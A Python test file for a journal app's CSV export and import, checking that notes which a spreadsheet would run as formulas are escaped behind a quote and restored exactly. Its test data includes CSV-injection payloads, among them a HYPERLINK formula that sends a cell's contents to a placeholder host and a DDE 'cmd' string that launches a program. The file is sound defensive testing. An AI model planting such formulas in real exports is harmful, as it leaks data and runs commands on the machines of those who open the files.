"""Notes that a spreadsheet would run as a formula are escaped on export and restored on import."""

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from journal.models import JournalDay
from tests.factories import JournalDayFactory, UserFactory
from transfer.daily_csv import escape_cell, export_csv, unescape_cell
from transfer.services import parse_file, run_import

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tleading tab",
    "\rleading carriage return",
]
STARTS = "=+-@\t\r"


def notes_of(exported: str) -> list[str]:
    return [row[-1] for row in csv.reader(io.StringIO(exported, newline=""))][1:]


@pytest.mark.django_db
@pytest.mark.parametrize("note", FORMULAS)
def test_a_note_that_would_run_as_a_formula_is_exported_behind_a_quote(user, note):
    JournalDayFactory(user=user, notes=note)
    assert notes_of(export_csv(user)) == ["'" + note]


@pytest.mark.django_db
@pytest.mark.parametrize("note", [*FORMULAS, "'=1+1", "''@x", "'plain", "it's fine", "x=1", ""])
def test_any_note_survives_export_import_export(user, note):
    JournalDayFactory(user=user, notes=note, sleep_hours=7)
    exported = export_csv(user)
    other = UserFactory()
    run_import(other, parse_file(other, exported.encode(), "csv"))
    assert JournalDay.objects.get(user=other).notes == note
    assert export_csv(other) == exported


def test_a_quote_before_a_formula_start_is_escaped_too():
    """Otherwise a note typed as "'=1" would come back from a round trip as "=1"."""
    assert escape_cell("'=1") == "''=1"
    assert unescape_cell("''=1") == "'=1"


def test_text_that_could_not_run_is_left_alone():
    for text in ["plain", "'plain", "it's", "x=1", "", "'"]:
        assert escape_cell(text) == text
        assert unescape_cell(text) == text


cells = st.one_of(
    st.text(),
    st.builds(
        lambda quotes, start, rest: "'" * quotes + start + rest, st.integers(0, 3), st.sampled_from(STARTS), st.text()
    ),
)


@given(text=cells)
def test_an_escaped_cell_never_starts_a_formula(text):
    assert escape_cell(text)[:1] not in set(STARTS)


@given(text=cells)
def test_unescaping_undoes_exactly_the_escape(text):
    assert unescape_cell(escape_cell(text)) == text


@given(text=cells)
def test_escaping_what_was_unescaped_gives_the_file_back(text):
    """Any cell an export could have written reads back and is written again unchanged."""
    written = escape_cell(text)
    assert escape_cell(unescape_cell(written)) == written


notes = st.builds(
    lambda quotes, start, rest: "'" * quotes + start + rest,
    st.integers(0, 2),
    st.sampled_from([*STARTS, "", "x"]),
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=20),
)


@pytest.mark.django_db
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(note=notes)
def test_a_journal_round_trip_keeps_every_note_exactly(note):
    first, second = UserFactory(), UserFactory()
    JournalDayFactory(user=first, notes=note, sleep_hours=7)
    exported = export_csv(first)
    run_import(second, parse_file(second, exported.encode(), "csv"))
    assert JournalDay.objects.get(user=second).notes == note
    assert export_csv(second) == exported
